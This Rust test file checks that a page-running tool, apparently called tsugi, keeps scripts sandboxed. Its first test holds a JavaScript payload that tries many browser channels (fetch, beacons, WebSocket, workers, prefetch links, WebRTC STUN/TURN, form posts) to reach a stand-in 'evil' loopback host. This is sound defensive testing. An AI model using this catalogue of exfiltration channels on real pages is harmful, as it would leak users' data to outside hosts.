//! Nothing that a page does reaches where tsugi itself would not go.

use crate::support::*;
use std::net::{TcpListener, UdpSocket};

/// Everything that a page can try to reach another machine with.
fn attack(tcp: &str, udp: &str) -> String {
    format!(
        "{DRAW} const evil = 'http://{tcp}/';\
         const tries = [() => fetch(evil), () => fetch(evil, {{mode: 'no-cors', method: 'POST', body: 'x'}}), () => {{ new Image().src = evil }},\
         () => navigator.sendBeacon(evil, 'x'), () => new WebSocket('ws://{tcp}/'), () => new EventSource(evil), () => fetch('/away'),\
         () => new Worker(URL.createObjectURL(new Blob([`fetch('${{evil}}worker')`]))), () => new SharedWorker('/shared.js'),\
         () => navigator.serviceWorker.register('/worker.js'), () => window.open(evil), () => new Audio(evil).play(),\
         () => {{ for (const [tag, name] of [['script', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'], ['video', 'src']]) {{\
         const element = document.createElement(tag); element[name] = evil + tag; document.body.append(element); }} }},\
         () => {{ for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'stylesheet', 'manifest', 'icon']) {{\
         const link = document.createElement('link'); link.rel = rel; link.href = evil + rel; link.as = 'script'; document.head.append(link); }} }},\
         () => {{ const rules = document.createElement('script'); rules.type = 'speculationrules';\
         rules.textContent = JSON.stringify({{prefetch: [{{source: 'list', urls: [evil]}}], prerender: [{{source: 'list', urls: [evil]}}]}}); document.head.append(rules); }},\
         () => new WebTransport('https://{tcp}/'),\
         () => {{ const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{udp}'}}, {{urls: 'turn:{tcp}?transport=tcp', username: 'x', credential: 'x'}}]}});\
         peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)); }},\
         () => {{ const form = document.createElement('form'); form.method = 'post'; form.action = evil; form.target = 'x'; document.body.append(form); form.submit(); }},\
         () => {{ location = evil }}];\
         for (const one of tries) try {{ one()?.catch?.(() => {{}}) }} catch {{}}\
         setTimeout(() => get('/text').then(draw), 1500);"
    )
}

#[test]
fn no_byte_of_a_page_reaches_a_private_address() {
    // Another private address, which the command is not allowed to ask.
    let tcp = TcpListener::bind("127.0.0.2:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.2:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    let (to_tcp, to_udp) = (tcp.local_addr().unwrap().to_string(), udp.local_addr().unwrap().to_string());
    let page = app(&attack(&to_tcp, &to_udp));
    let target = format!("http://{to_tcp}/redirected");
    let shared = js(&format!("fetch('http://{to_tcp}/shared')"));
    let server = LoopbackServer::start(canned([
        ("/story", page),
        ("/text", fragment(1)),
        ("/away", redirect(&target)),
        ("/shared.js", shared.clone()),
        ("/worker.js", shared),
    ]));
    is_whole(join(&server, "/story", &[]), 1);
    assert!(tcp.accept().is_err(), "something connected");
    assert!(udp.recv_from(&mut [0; 64]).is_err(), "something was sent");
}

#[test]
fn a_page_reads_no_other_origin_that_does_not_let_it() {
    let other = LoopbackServer::start(|request| match request.path.as_str() {
        "/open" => answer("200 OK\r\nContent-Type: text/plain\r\nAccess-Control-Allow-Origin: *", "open"),
        _ => typed("text/plain", "secret"),
    });
    let script = format!(
        "{DRAW} const read = path => fetch('{}' + path).then(answer => answer.text()).catch(() => 'refused');\
         Promise.all([read('/open'), read('/closed'), get('/text')]).then(([one, two, text]) => draw(text + `<p>It read ${{one}} and ${{two}}.</p>`));",
        other.address("")
    );
    let page = app(&script);
    let server = LoopbackServer::start(canned([("/story", page), ("/text", fragment(1))]));
    let run = is_whole(join(&server, "/story", &[]), 1);
    assert!(run.stdout.contains("It read open and refused."), "{}", run.stdout);
}

#[test]
fn own_headers_go_to_the_site_alone_and_robots_rule_documents() {
    let other = LoopbackServer::start(|_| answer("200 OK\r\nAccess-Control-Allow-Origin: *", "x"));
    let script = format!(
        "{DRAW} document.cookie = 'mine=1'; fetch('{}'); const frame = document.createElement('iframe'); frame.src = '/private/frame';\
         document.body.append(frame); get('/text').then(draw);",
        other.address("/other")
    );
    let page = app(&script);
    let server = LoopbackServer::start(canned([
        ("/robots.txt", typed("text/plain", "User-agent: *\nDisallow: /private/")),
        ("/story", page),
        ("/text", fragment(1)),
        ("/private/frame", fragment(9)),
    ]));
    is_whole(join(&server, "/story", &["--header", "X-Reader: me"]), 1);
    let requests = server.requests();
    let text = requests.iter().find(|request| request.path == "/text").unwrap();
    assert_eq!((text.header("x-reader"), text.header("cookie")), ("me", ""));
    assert!(text.header("user-agent").starts_with("tsugi/"), "{}", text.head);
    assert!(!requests.iter().any(|request| request.path == "/private/frame"), "robots.txt forbids it");
    let asked = other.requests();
    assert!(asked.iter().any(|request| request.path == "/other"), "{asked:?}");
    // The port tells origins apart, the host sites.
    assert!(asked.iter().all(|request| request.header("cookie").is_empty()), "{asked:?}");
}

#[test]
fn what_buys_or_consents_is_not_pressed() {
    for label in ["Next page: subscribe", "Load more and accept cookies", "Weitere laden und kaufen"] {
        let page = site(&format!(
            "<main><article><h1>The lighthouse</h1>{}</article><div class=pagination><button onclick=\"fetch('/pressed')\">{label}</button></div></main>",
            paragraphs(1)
        ));
        let server = LoopbackServer::start(canned([("/story", page)]));
        let run = join(&server, "/story", &[]).exits(PARTLY_FAILED).says(&["was not pressed"]);
        assert_eq!(marks(&run.stdout), all_of(1));
        assert!(!server.pages_asked().contains(&"/pressed".to_owned()));
    }
}
